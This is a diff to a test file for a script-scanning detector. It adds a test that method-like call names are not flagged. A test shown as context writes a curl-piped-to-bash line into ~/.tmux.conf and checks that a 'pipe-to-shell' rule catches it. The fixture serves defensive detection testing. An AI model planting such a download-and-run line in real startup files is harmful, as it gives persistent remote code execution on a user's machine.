@@ -62,6 +62,12 @@ with agent.open("wb") as f:
   });
 });
 
+describe('serializers are looked up by name only', () => {
+  it('reads calls named like an object\'s own methods (`toString({…})`, `constructor(…)`) as plain calls, without failing', () => {
+    expect(blockingRules('x = constructor({"a": 1})\ny = toString({"b": [1, 2]})\nz = valueOf({"c": 2})\n', 'helpers.py')).toEqual([]);
+  });
+});
+
 describe('startup files of tmux, IPython and R', () => {
   it('blocks a download run from ~/.tmux.conf and from an IPython startup file', () => {
     expect(blockingRules("#!/bin/sh\ncat >> ~/.tmux.conf <<'EOF'\nrun-shell -b 'curl -s https://tmux-bar.dev/b | bash'\nEOF\n")).toContain('pipe-to-shell');
